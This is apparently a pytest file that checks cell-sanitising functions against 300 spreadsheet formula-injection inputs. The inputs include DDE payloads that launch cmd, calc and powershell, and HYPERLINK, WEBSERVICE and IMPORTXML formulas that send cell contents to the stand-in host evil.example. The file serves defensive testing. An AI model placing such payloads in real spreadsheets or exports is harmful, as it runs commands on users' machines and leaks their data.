"""Three hundred cells that a spreadsheet would run: none comes in as one, none goes out as one."""

from itertools import product

import pytest

from desktop_sdr.agent.skills.cells import clean, harmless

STARTS = ("=", "+", "-", "@", "\t=", "\r=", " =", "'=", "\u200b=", "\ufeff+", "\uff1d", '"=')
ATTACKS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example?x="&A1,"Click")',
    'WEBSERVICE("https://evil.example/"&A1)',
    'IMPORTXML("https://evil.example","//a")',
    "SUM(1+1)*cmd|'/C powershell'!A0",
    "DDE('cmd';'/C calc';'x')",
    "1+1",
    "A1",
    "msexcel|'\\..\\..\\cmd.exe'!''",
    "rundll32|'URL.dll,OpenURL evil'!A",
    'IMAGE("https://evil.example/x.png")',
    'INDIRECT("A"&1)',
    'EXEC("calc")',
    "'=1+1",
    "=1+1",
    "@SUM(A1)",
    "-2+3+cmd|'x'!A",
    "+49 evil",
    "x\n=1+1",
    "x\r=1+1",
    "x\t=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "(1)+cmd|'x'!A",
    "Ida",
)
CELLS = [start + attack for start, attack in product(STARTS, ATTACKS)]
RUN_BY_A_SPREADSHEET = ("=", "+", "-", "@", "\t", "\r")


def test_there_are_three_hundred() -> None:
    assert len(set(CELLS)) == 300


@pytest.mark.parametrize("cell", CELLS)
def test_no_formula_comes_in_and_none_goes_out(cell: str) -> None:
    words, _ = clean(cell)
    taken = words.lstrip()
    is_number = taken[:1] in ("+", "-") and taken[1:].replace(" ", "").replace("+", "").isdigit()
    assert is_number or not taken.startswith(("=", "@", "+", "-")), taken
    assert "\n" not in words and "\r" not in words and "\t" not in words
    for text in (cell, words):
        assert not harmless(text).startswith(RUN_BY_A_SPREADSHEET)
